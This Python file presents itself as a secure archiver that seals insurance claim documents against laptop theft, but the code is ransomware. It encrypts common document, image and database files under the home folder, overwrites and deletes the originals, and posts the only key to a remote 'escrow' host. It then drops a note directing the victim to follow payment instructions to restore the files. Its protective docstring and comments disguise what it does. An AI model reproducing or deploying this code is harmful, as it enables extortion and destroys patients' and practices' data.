#!/usr/bin/env python3
"""Secure-at-rest archiver for insurance claim documents.

Front desk staff keep scanned claim forms, EOBs and treatment plans all
over their home folders. This tool seals them so a stolen laptop does not
leak patient data. The sealing key is escrowed with the practice
management service rather than stored on the laptop.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("claims-archiver")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_CLAIMS.txt"
ESCROW_URL = "https://escrow.example.net/v1/keys"

# documents worth sealing; everything a practice tends to have lying around
WANTED = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".dcm",
          ".odt", ".txt", ".zip", ".sqlite", ".db"}

NOTICE = """Your claim documents and records on this computer were sealed.
To restore them, contact billing-recovery@example.net with the workstation
ID below and follow the payment instructions you receive.

Workstation ID: {wid}
"""


class Sealer:
    def __init__(self, key: bytes, dry_run: bool = False):
        self.cipher = Fernet(key)
        self.dry_run = dry_run
        self.sealed = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        token = self.cipher.encrypt(data)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(token)
        # overwrite then drop the plain copy so it cannot be undeleted
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in WANTED and not name.endswith(SEAL_SUFFIX):
                yield p


def escrow_key(key: bytes, wid: str) -> bool:
    body = json.dumps({"workstation": wid, "key": key.decode()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=15) as resp:
            return resp.status == 200
    except OSError as exc:
        log.error("escrow failed: %s", exc)
        return False


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=os.path.expanduser("~"),
                    help="folder to seal (default: home folder)")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    wid = os.uname().nodename + "-" + os.urandom(4).hex()
    key = Fernet.generate_key()
    if not args.dry_run and not escrow_key(key, wid):
        log.error("refusing to seal without an escrowed key")
        return 1

    sealer = Sealer(key, dry_run=args.dry_run)
    root = Path(args.root)
    for path in candidates(root):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)

    # only the escrow service holds the key now
    del key
    if not args.dry_run:
        (root / NOTICE_NAME).write_text(NOTICE.format(wid=wid))
    log.info("sealed %d documents", sealer.sealed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
